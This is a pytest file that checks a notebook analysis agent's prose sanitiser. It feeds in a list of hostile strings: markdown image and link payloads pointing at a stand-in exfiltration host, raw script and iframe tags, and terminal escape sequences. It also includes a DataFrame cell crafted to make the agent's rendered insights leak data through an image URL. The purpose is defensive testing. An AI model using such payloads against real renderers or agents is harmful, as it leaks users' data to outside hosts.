"""One prose sanitiser: rendered by a real CommonMark parser, no image, link or HTML survives."""

from __future__ import annotations

import html
import re

import pandas as pd
import pytest
from markdown_it import MarkdownIt

from jupyter_analyst import AnalysisResult, PythonAnalysisAgent
from jupyter_analyst.prose import markdown, plain_text
from jupyter_analyst.rendering import display_outputs

# What notebook front ends do: CommonMark with raw HTML on, and GFM-style linkify.
RENDERER = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable("linkify")
SECRET_URL = "https://exfil.example.invalid/collect?v=QUJD"

HOSTILE = [
    "Mon![chart][ref]\n\n[ref]: " + SECRET_URL,                     # reference-style image
    "see ![alt text](" + SECRET_URL + ") and [a label](" + SECRET_URL + ")",  # inline
    "[Click][r2] now\n[r2]: <" + SECRET_URL + '> "title"',         # reference-style link
    "auto <" + SECRET_URL + "> and bare " + SECRET_URL + " and www.exfil.example.invalid",
    "raw <img src=" + SECRET_URL + "> <a href='" + SECRET_URL + "'>x</a> <iframe src=x>",
    "entities &lt;img src=&quot;" + SECRET_URL + "&quot;&gt; &#60;script&#62;go()&#60;/script&#62;",
    "escaped \\<img src=" + SECRET_URL + "\\> and `<img src=x>` code",
    "<script>steal()</script>\n<style>p{}</style>html block",
    "mail someone@exfil.example.invalid or [x]: " + SECRET_URL,
    "term \x1b]8;;" + SECRET_URL + "\x1b\\link\x1b]8;;\x1b\\ \x1b]52;c;QUJD\x07",
]


def rendered(markdown_source: str) -> str:
    return RENDERER.render(markdown_source)


def assert_inert(page: str) -> None:
    assert "<img" not in page and "<a " not in page and "href" not in page
    # The only tags left are the ones CommonMark makes for plain paragraphs and lists.
    assert set(re.findall(r"</?([a-z0-9]+)", page)) <= {"p", "ul", "li", "strong", "sub"}


@pytest.mark.parametrize("prose", HOSTILE)
def test_sanitised_prose_renders_as_plain_text(prose):
    page = rendered(markdown(prose))
    assert_inert(page)
    assert "\x1b" not in plain_text(prose)


@pytest.mark.parametrize("prose", HOSTILE)
def test_prose_joined_into_one_document_stays_inert(prose):
    """Insights are rendered as one list: a definition in one line cannot serve another."""
    document = "\n".join(f"- {markdown(line)}" for line in (prose, "Use ![x][ref] here", prose))
    assert_inert(rendered(document))


def test_plain_text_keeps_what_a_reader_needs():
    assert plain_text("The mean of **tip** is 3.1 (see [the table](https://x.invalid/t))") == \
        "The mean of tip is 3.1 (see the table)"
    assert plain_text("a < b & c > d, 5% of *x*_y") == "a < b & c > d, 5% of x_y"
    for line in ("- 3.2% lower than 2023", "# of rows: 12", "2023. Sales rose", "> 5 items",
                 "+ 4.1 points", "    indented 7", "***"):
        assert plain_text(line) == line.strip()  # no block syntax eats a sign or a number
    # The text a renderer shows is exactly the plain text: nothing is lost or added.
    line = "Ratio 3:1 — #1 item [x] costs $5 <b> & {braces} ~tilde~ | pipe"
    shown = rendered(markdown(line))
    assert html.unescape(re.sub(r"<[^>]+>", "", shown)).strip() == " ".join(
        plain_text(line).split())


def test_a_result_with_hostile_prose_renders_no_image_link_or_html():
    result = AnalysisResult(success=True, query="q", insights=HOSTILE, notices=HOSTILE[:3],
                            explanation=HOSTILE[0], code="x = 1", isolation="network: isolated")
    outputs = display_outputs(result, include_code=True)
    pages = [o["data"]["text/markdown"] for o in outputs if "text/markdown" in o["data"]]
    assert len(pages) == 3  # insights, notes, footer
    for page in pages:
        assert_inert(rendered(page))
    pages = " ".join(o["data"].get("text/html", "") for o in outputs)
    assert "<img" not in pages and "<a " not in pages and "<script" not in pages


@pytest.mark.kernel
def test_offline_insights_from_a_hostile_cell_render_no_image():
    """The reproduced case: a cell value carries a reference-style image and its definition."""
    value = "Sun![x][r]\n\n[r]: https://example.invalid/?leak=tips\n"
    frame = pd.DataFrame({"day": [value] * 5 + ["Sat"] * 2, "tip": [1.0] * 7})
    with PythonAnalysisAgent(backend="local") as agent:
        result = agent.analyze_sync("What are the most common values of day?", {"df": frame})
    assert result.success, result.error
    assert any("Sun" in line for line in result.insights), result.insights
    outputs = display_outputs(result)
    markdown_pages = [rendered(o["data"]["text/markdown"]) for o in outputs
                      if "text/markdown" in o["data"]]
    assert markdown_pages
    for page in markdown_pages:
        assert_inert(page)
